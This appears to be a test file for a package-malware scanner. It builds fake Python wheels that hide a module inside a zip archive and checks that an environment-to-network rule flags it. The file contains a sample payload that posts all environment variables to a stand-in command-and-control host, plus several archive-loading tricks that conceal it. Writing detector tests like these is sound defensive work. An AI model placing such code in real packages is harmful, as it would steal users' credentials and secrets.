@@ -1,0 +1,79 @@
+import { zip } from '@weir/testkit/archive';
+import { expect, test } from 'vitest';
+import { analyzeArtifact } from '../analyze.ts';
+import { createMemoryView } from '../memory-view.ts';
+
+const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
+const PLACE = "os.path.join(os.path.dirname(__file__), 'tables.zip')";
+
+/** Rules and files of the threats in a wheel of these files. */
+async function threatsOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
+  await using view = createMemoryView({
+    'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+    ...files,
+  });
+  const { findings } = await analyzeArtifact(
+    view,
+    { ecosystem: 'pypi', filename: 'own-1.0-py3-none-any.whl', context: null },
+    {
+      layout: 'directory',
+      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
+      rulesetVersion: 'test',
+      now: () => performance.now(),
+    },
+  );
+  return findings
+    .filter(({ rule }) => rule.startsWith('env-to-network/'))
+    .map(({ rule, stage, location }) => `${rule} ${stage} ${location?.file}:${location?.line}`);
+}
+
+test.each([
+  [
+    'a path of its own',
+    `import os, sys\nsys.path.insert(0, ${PLACE})\nfrom _tables import *\n`,
+    '_tables.py',
+  ],
+  [
+    'an importer of archives',
+    `import os, zipimport\nzipimport.zipimporter(${PLACE}).load_module('_tables')\n`,
+    '_tables.py',
+  ],
+  ['a program that is an archive', `import os, runpy\nrunpy.run_path(${PLACE})\n`, '__main__.py'],
+  [
+    'an archive that is unpacked first',
+    `import os, sys, zipfile\nzipfile.ZipFile(${PLACE}).extractall('/tmp/own')\nsys.path.insert(0, '/tmp/own')\nimport _tables\n`,
+    '_tables.py',
+  ],
+])('modules inside of a container: %s', async (_how, text, inner) => {
+  const files = { 'own/__init__.py': text, 'own/tables.zip': zip().file(inner, SEND).build() };
+
+  expect(await threatsOf(files)).toEqual([`env-to-network/environment import own/tables.zip!/${inner}:2`]);
+});
+
+test('a module inside that imports another one inside', async () => {
+  const inner = zip().file('_tables.py', 'import _more\n').file('_more.py', SEND).build();
+  const text = `import os, sys\nsys.path.insert(0, ${PLACE})\nimport _tables\n`;
+
+  expect(await threatsOf({ 'own/__init__.py': text, 'own/tables.zip': inner })).toEqual([
+    'env-to-network/environment import own/tables.zip!/_more.py:2',
+  ]);
+});
+
+test('a module that somebody has to import first', async () => {
+  const files = {
+    'own/__init__.py': '',
+    'own/colors.py': `import os, sys\nsys.path.insert(0, ${PLACE})\nfrom _tables import *\n`,
+    'own/tables.zip': zip().file('_tables.py', SEND).build(),
+  };
+
+  expect(await threatsOf(files)).toEqual(['env-to-network/environment use own/tables.zip!/_tables.py:2']);
+});
+
+test('a container that is only data is left alone', async () => {
+  const files = {
+    'own/__init__.py': `import os\nTABLES = open(${PLACE}, 'rb')\n`,
+    'own/tables.zip': zip().file('_tables.py', SEND).build(),
+  };
+
+  expect(await threatsOf(files)).toEqual([]);
+});
